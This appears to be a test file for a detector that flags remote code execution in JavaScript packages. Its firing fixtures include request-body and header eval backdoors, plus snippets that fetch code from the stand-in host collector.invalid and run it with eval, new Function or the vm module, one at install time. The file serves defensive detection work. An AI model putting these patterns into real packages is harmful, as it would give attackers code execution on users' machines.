import { installed, loaded, testDetector } from "../../test/test-detector.ts";
import { remoteCode } from "./index.ts";

testDetector(remoteCode, {
  fires: {
    "a field of a body, in what an export makes": [
      "strong",
      loaded(`module.exports = () => (request, response) => response.end(eval(request.body.expression));`),
    ],
    "a header of a request": [
      "strong",
      loaded(`module.exports = (q, s) => s.end(String(eval(q.headers["x-expression"])));`),
    ],
    "fetch and eval": [
      "decisive",
      loaded(
        `fetch("https://collector.invalid/c").then((answer) => answer.text()).then((text) => eval(text));`,
      ),
    ],
    "a client and a function": [
      "decisive",
      loaded(`const axios = require("axios");
        (async () => { const { data } = await axios.get("https://collector.invalid/c"); new Function("require", data.cookie)(require); })();`),
    ],
    "a virtual machine at install": [
      "decisive",
      installed(`require("https").get("https://collector.invalid/c", (answer) => {
        const parts = []; answer.on("data", (part) => parts.push(part));
        answer.on("end", () => require("vm").runInThisContext(Buffer.concat(parts).toString()));
      });`),
    ],
  },
  silent: {
    "a syntax tree's body": loaded(`module.exports = (tree) => eval(tree.body.toString());`),
    "an expression that its user gives": loaded(
      `module.exports = (text) => new Function("value", "return " + text);`,
    ),
    "JSON from the network": loaded(
      `fetch("https://api.example/").then((answer) => answer.json()).then(console.log);`,
    ),
  },
});
